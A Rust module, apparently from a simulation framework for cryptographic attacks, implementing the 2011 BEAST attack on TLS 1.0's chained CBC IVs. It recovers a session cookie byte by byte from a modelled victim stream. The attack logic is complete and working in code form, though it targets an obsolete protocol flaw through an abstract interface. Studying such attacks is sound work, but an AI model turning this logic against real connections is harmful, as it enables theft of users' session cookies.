//! BEAST: a guess is shaped so that it encrypts to a block that was seen, if it is right. Duong and Rizzo, 2011.
//!
//! In TLS 1.0 the IV of a record is the last block of the record before, which was on the wire. What goes into the cipher for
//! a block is the plaintext, xor the block before it; so somebody who knows both can have any input encrypted, and compare.

use super::{Attacker, BLOCK, letter, records, xor};
use crate::reach::{BEFORE_COOKIE, BEFORE_PATH, COOKIE_LEN, TappedStream, cookie_at};
use crate::tally::{Tally, Turn};

/// One byte at a time, each at the end of a block whose other bytes are known.
#[derive(Default)]
pub struct Beast {
    known: Vec<u8>,
    /// Bytes of content that went ahead of the record with the cookie.
    ahead: usize,
    target: Option<Target>,
    last: Vec<u8>,
}

/// A block whose last byte is looked for.
struct Target {
    sealed: Vec<u8>,
    before: Vec<u8>,
    /// The block's other bytes.
    begins: Vec<u8>,
    tried: usize,
}

impl Attacker<dyn TappedStream> for Beast {
    fn advance(&mut self, victim: &mut (dyn TappedStream + 'static), tally: &mut Tally) -> Turn {
        tally.recovered.resize(COOKIE_LEN, None);
        let Some(target) = &mut self.target else {
            self.target = self.aim(victim);
            return if self.target.is_some() { Turn::Goes } else { Turn::GivesUp };
        };
        let Some(guess) = letter(target.tried) else { return Turn::GivesUp };
        target.tried += 1;
        tally.tries += 1;
        tally.guess = Some((self.known.len(), guess));
        let wanted = xor(&[target.begins.as_slice(), &[guess]].concat(), &target.before);
        let seen = victim.add(&xor(&wanted, &self.last));
        let blocks: Vec<&[u8]> = records(&seen).into_iter().flat_map(|(_, fragment)| fragment.chunks(BLOCK)).collect();
        self.last = blocks.last().map(|block| block.to_vec()).unwrap_or_default();
        if !blocks.contains(&target.sealed.as_slice()) {
            return Turn::Goes;
        }
        tally.reads(self.known.len(), guess);
        self.known.push(guess);
        self.target = None;
        if self.known.len() == COOKIE_LEN { Turn::Done } else { Turn::Goes }
    }
}

impl Beast {
    /// Has a request made that puts the next unknown byte at the end of a block.
    fn aim(&mut self, victim: &mut (dyn TappedStream + 'static)) -> Option<Target> {
        // Once more if the browser turns out to cut the request up.
        for _ in 0..2 {
            let shift = (0..BLOCK).find(|path| (self.at(*path) + 1).is_multiple_of(BLOCK))?;
            let path = "a".repeat(shift);
            let seen = victim.request(&path);
            let all = records(&seen);
            let (version, fragment) = *all.last()?;
            // The IV that stands before the blocks since TLS 1.1.
            let iv = if version == [3, 1] { 0 } else { 1 };
            let before_record = all.iter().rev().nth(1).map(|(_, fragment)| fragment.to_vec());
            let blocks: Vec<Vec<u8>> = fragment.chunks(BLOCK).map(<[u8]>::to_vec).collect();
            let previous = std::mem::replace(&mut self.last, blocks.last()?.clone());
            if all.len() > 1 && self.ahead == 0 {
                self.ahead = 1;
                continue;
            }
            let at = (self.at(shift) + 1) / BLOCK - 1 + iv;
            let chained =
                before_record.map_or(previous, |fragment| fragment.chunks(BLOCK).last().unwrap_or_default().to_vec());
            let before = match at.checked_sub(1) {
                Some(at) => blocks.get(at)?.clone(),
                None => chained,
            };
            let request = [BEFORE_PATH, &path, BEFORE_COOKIE].concat().into_bytes();
            let request = [request.as_slice(), &self.known].concat();
            let begins = request.get(request.len().checked_sub(BLOCK - 1)?..)?.to_vec();
            return Some(Target { sealed: blocks.get(at)?.clone(), before, begins, tried: 0 });
        }
        None
    }

    /// Where the next unknown byte stands in the record.
    fn at(&self, path: usize) -> usize {
        cookie_at(path) + self.known.len() - self.ahead
    }
}
